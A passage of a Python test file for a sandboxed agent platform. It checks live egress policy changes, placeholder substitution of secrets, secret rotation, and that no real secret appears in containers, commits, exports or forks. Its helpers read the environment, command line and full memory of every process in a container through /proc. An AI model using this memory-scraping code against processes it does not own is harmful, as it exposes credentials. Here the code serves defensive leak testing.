            {"op": "https", "name": ALLOWED, "connect": gw, "path": "/echo"},
            {"op": "sleep", "seconds": 0.05},
        ]

    async def change_during() -> tuple[float, list[dict[str, Any]]]:
        probe = asyncio.ensure_future(run_probe(session, steps))
        await asyncio.sleep(1.5)
        changed_at = time.time()
        await session.set_egress(EgressPolicy(allow=(UNLISTED,)))
        return changed_at, await probe

    changed_at, lines = loop.run(change_during(), 120)
    assert len(lines) == len(steps)
    groups = [lines[i : i + 4] for i in range(0, len(lines), 4)]
    # before the change: the allowed name resolves and connects, the other does not
    first = groups[0]
    assert first[0]["result"]["rcode"] == 0 and first[1]["result"]["rcode"] == 3 and "error" not in first[2]
    assert first[3]["started"] < changed_at
    # the first moment after which every query and connection answers the new policy

    def new_policy(group: list[dict[str, Any]]) -> bool:
        allowed, unlisted, connect, _ = group
        return (
            allowed.get("result", {}).get("rcode") == 3
            and unlisted.get("result", {}).get("rcode") == 0
            and "error" in connect
        )

    settled = next((i for i in range(len(groups)) if all(new_policy(g) for g in groups[i:])), None)
    assert settled is not None, groups[-3:]
    applied_after = groups[settled][0]["started"] - changed_at
    print(f"the live change applied {applied_after:.3f} s after set_egress was called")
    assert applied_after <= 1.0, f"the change applied {applied_after:.2f} s after set_egress was called"
    assert loop.run(session.info()).id == session.id


def test_no_copy_of_the_real_secret_in_the_session(world: World, client) -> None:
    loop = world.loop
    real = world.real.encode()
    placeholder = world.placeholder.encode()
    marker = f"held-marker-{secrets.token_hex(8)}"
    session = world.create(
        "scanned",
        egress=policy(world.placeholder, (SECRET_HOST, ALLOWED)),
        env={SECRET_ENV: world.placeholder},
    )
    # the session uses its secret (substituted: the digest shows the real value arrived) and keeps a
    # process alive that made the requests and holds the placeholder, with a marker the scan must find
    ready = "/tmp/held"
    uses = [
        {
            "op": "https",
            "name": SECRET_HOST,
            "public_roots": False,
            "path": f"/digest?token={world.placeholder}",
            "headers": {"Authorization": f"Bearer {world.placeholder}"},
            "body": world.placeholder,
        },
        {"op": "https", "name": ALLOWED, "path": "/digest", "headers": {"Authorization": world.placeholder}},
    ]
    steps = [*uses, {"op": "hold", "seconds": 60, "marker": marker, "env": SECRET_ENV, "ready": ready}]

    async def hold() -> Any:
        handle = await session.exec_start(
            ["python3", "-c", PROBE, json.dumps(steps)],
            timeout_seconds=90,
            env={"TEST_ROOTS": session.resolve(ROOTS)},
        )
        for _ in range(200):
            probe = await session.exec(["test", "-e", ready], timeout_seconds=10)
            if probe.exit_code == 0:
                return handle
            await asyncio.sleep(0.1)
        raise AssertionError("the holding process never got ready")

    handle = loop.run(hold(), 60)
    want = hashlib.sha256(f"Bearer {world.real}".encode()).hexdigest()
    digest = [
        r for r in world.hosts.http_requests() if r.get("path") == "/digest" and r["sni"] == SECRET_HOST
    ]
    assert digest and dict(digest[-1]["headers"])["Authorization"] == f"Bearer {world.real}", want
    loop.run(session.exec(["sh", "-c", f"echo {world.placeholder} > placeholder.txt"], timeout_seconds=10))

    container = client.containers.get(f"tai-{session.id}")
    processes = _processes_of(container)
    assert len(processes) >= 2, processes  # the agent and the holding process at least
    found_marker = found_placeholder = False
    scanned = 0
    for pid in processes:
        for what, data in _process_views(pid):
            scanned += len(data)
            assert real not in data, f"the real secret is in pid {pid}'s {what}"
            found_marker |= what == "memory" and marker.encode() in data
            found_placeholder |= what == "environ" and placeholder in data
    print(f"scanned {len(processes)} processes of the session: {scanned >> 20} MiB of memory")
    assert found_marker, "the memory scan did not find the holding process's marker: it reads nothing"
    assert found_placeholder, "no process's environment has the placeholder: the scan reads nothing"

    # the workspace, on the host
    workspace = _workspace_source(container)
    files = [p for p in Path(workspace).rglob("*") if p.is_file()]
    assert any(placeholder in p.read_bytes() for p in files), "the workspace scan found the session's file"
    assert not [p for p in files if real in p.read_bytes()]

    # a docker commit of the session, exported
    image = container.commit(repository=f"tai-redteam-scan-{secrets.token_hex(4)}", tag="scan")
    try:
        assert not _stream_has(client.images.get(image.id).save(), real), "the commit holds the real secret"
        assert not _stream_has(client.api.export(container.id), real), (
            "the container's filesystem holds the real secret"
        )
    finally:
        client.images.remove(image.id, force=True)
    loop.run(handle.kill())

    # a fork of the session (an image committed from it, and a session of that image): neither holds the
    # secret, and the fork still has its placeholder substituted (it took the live policy)
    world.sessions["fork"] = fork = loop.run(session.fork(), 120)
    fork_container = client.containers.get(f"tai-{fork.id}")
    assert not _stream_has(client.images.get(fork_container.attrs["Image"]).save(), real)
    before = len(world.hosts.http_requests())
    (used,) = loop.run(run_probe(fork, [uses[0]]))
    assert used["result"]["status"] == 200, used
    (arrived,) = [r for r in world.hosts.http_requests()[before:] if r.get("path") == "/digest"]
    assert dict(arrived["headers"])["Authorization"] == f"Bearer {world.real}"
    for pid in _processes_of(fork_container):
        for what, data in _process_views(pid):
            assert real not in data, f"the real secret is in the fork's pid {pid}'s {what}"


def test_an_operators_secret_reaches_the_session_only_as_its_placeholder_and_rotates(
    world: World, client, tmp_path: Path
) -> None:
    """End to end through the gate: the operator's policy grants a secret read from a file; the session's
    environment holds a placeholder, the secret's host gets the real value, and a rotated file is in force
    on the next request without a restart."""
    loop = world.loop
    source = tmp_path / "gated-token"
    first, second = f"gated-one-{secrets.token_hex(12)}", f"gated-two-{secrets.token_hex(12)}"
    source.write_text(first + "\n")
    owner = f"{world.owner}-gated"
    policy = SandboxPolicy(
        egress_audit_path="",
        egress_rules={"*": {"allow": [ALLOWED, SECRET_HOST]}},
        secrets={"gated-token": {"hosts": [SECRET_HOST], "from_file": str(source), "env": "GATED_TOKEN"}},
    )

    async def scenario() -> tuple[str, list[str]]:
        gate = GatedSandbox(await _make_sandbox(world.hosts, Hooks({})), policy)
        session = await gate.create(spec(image=PYTHON_IMAGE, owner=owner, ttl_seconds=600))
        try:
            await session.put_file(ROOTS, world.hosts.ca.read_bytes())
            echoed = await session.exec(["sh", "-c", 'printf %s "$GATED_TOKEN"'], timeout_seconds=20)
            placeholder = echoed.stdout.decode()
            step = {
                "op": "https",
                "name": SECRET_HOST,
                "path": "/digest",
                "headers": {"Authorization": f"Bearer {placeholder}"},
                "public_roots": False,
            }
            seen: list[str] = []
            for value in (first, second):
                if value == second:
                    source.write_text(second + "\n")  # the rotation
                deadline = time.monotonic() + 10
                while True:
                    before = len(world.hosts.http_requests())
                    (done,) = await run_probe(session, [step])
                    assert done["result"]["status"] == 200, done
                    (got,) = [r for r in world.hosts.http_requests()[before:] if r.get("path") == "/digest"]
                    arrived = dict(got["headers"])["Authorization"]
                    if arrived == f"Bearer {value}" or time.monotonic() > deadline:
                        break
                    await asyncio.sleep(0.5)
                seen.append(arrived)
            container = client.containers.get(f"tai-{session.id}")
            for pid in _processes_of(container):
                for what, data in _process_views(pid):
                    for value in (first, second):
                        assert value.encode() not in data, f"a real value is in pid {pid}'s {what}"
            return placeholder, seen
        finally:
            await session.destroy(remove_workspace=True)
            await gate.close()

    placeholder, seen = loop.run(scenario(), 240)
    assert PLACEHOLDER_PATTERN.match(placeholder), placeholder
    assert seen == [f"Bearer {first}", f"Bearer {second}"]


# ------------------------------------------------------------------------------------------ scan helpers


def _processes_of(container) -> list[int]:
    """Every pid (the host's) in the container's cgroup."""
    container.reload()
    init = container.attrs["State"]["Pid"]
    pids: set[int] = set()
    for line in Path(f"/proc/{init}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        names = controllers.split(",") if controllers else [""]
        for name in names:
            base = Path("/sys/fs/cgroup", name.removeprefix("name="), path.lstrip("/"))
            for procs in (base / "cgroup.procs",):
                if procs.exists():
                    pids |= {int(p) for p in procs.read_text().split()}
    return sorted(pids)


def _process_views(pid: int) -> Iterator[tuple[str, bytes]]:
    """A process's environment, command line and every readable mapping of its memory."""
    for what in ("environ", "cmdline"):
        with contextlib.suppress(FileNotFoundError, ProcessLookupError):
            yield what, Path(f"/proc/{pid}/{what}").read_bytes()
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
    except (FileNotFoundError, ProcessLookupError):
        return
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for line in maps:
            words = line.split()
            span, perms = words[0], words[1]
            if "r" not in perms or (len(words) > 5 and words[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(x, 16) for x in span.split("-"))
            try:
                mem.seek(start)
                yield "memory", mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue


def _workspace_source(container) -> str:
    mounts = container.attrs["Mounts"]
    for mount in mounts:
        if mount.get("Destination", "").startswith(("/workspace", "/home")) and mount.get("Source"):
            return mount["Source"]
    raise AssertionError(f"no workspace mount among {mounts}")


def _stream_has(chunks, needle: bytes) -> bool:
    tail = b""
    for chunk in chunks:
        data = tail + chunk
        if needle in data:
            return True
        tail = data[-len(needle) :]
    return False
